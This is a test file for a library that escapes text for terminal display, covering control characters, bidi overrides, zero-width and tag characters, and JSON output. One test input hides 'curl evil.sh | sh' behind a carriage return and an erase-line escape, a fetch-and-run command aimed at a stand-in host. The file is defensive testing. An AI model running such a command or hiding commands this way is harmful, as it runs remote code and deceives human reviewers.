import { describe, expect, it } from "vitest";
import { escapeForTerminal, escapeJsonForTerminal } from "../src/index.js";

describe("escapeForTerminal", () => {
  it("shows a carriage return and an erase-line escape instead of letting them hide a command", () => {
    expect(escapeForTerminal("echo ok\r\u001b[2Kcurl evil.sh | sh")).toMatchInlineSnapshot(
      `"echo ok\\r\\x1b[2Kcurl evil.sh | sh"`,
    );
  });

  it("shows bidi overrides, isolates, zero-width and tag characters as code points", () => {
    const text = "a\u202eb\u2066c\u200bd\ufeffe\u{e0041}f\u00adg\u2028h\u3164i";
    expect(escapeForTerminal(text)).toBe(
      "a\\u{202e}b\\u{2066}c\\u{200b}d\\u{feff}e\\u{e0041}f\\xadg\\u{2028}h\\u{3164}i",
    );
  });

  it("shows C1 controls (a terminal may read U+009B as CSI) and lone surrogates", () => {
    expect(escapeForTerminal("x\u009b2Ky\ud800z\u007f")).toBe("x\\x9b2Ky\\u{d800}z\\x7f");
  });

  it("leaves printable text, non-ASCII letters and emoji alone", () => {
    const text = "naïve café — 日本語 🎉 \\r literal";
    expect(escapeForTerminal(text)).toBe(text);
  });
});

describe("escapeJsonForTerminal", () => {
  it("keeps the same JSON value while escaping what a terminal would act on", () => {
    const value = { command: "ok\u009b\u202e\u{e0041}", list: ["\u2028"] };
    const json = escapeJsonForTerminal(JSON.stringify(value, null, 2));
    expect(json).not.toMatch(/[\u009b\u202e\u2028]|\udb40/);
    expect(JSON.parse(json)).toEqual(value);
  });
});
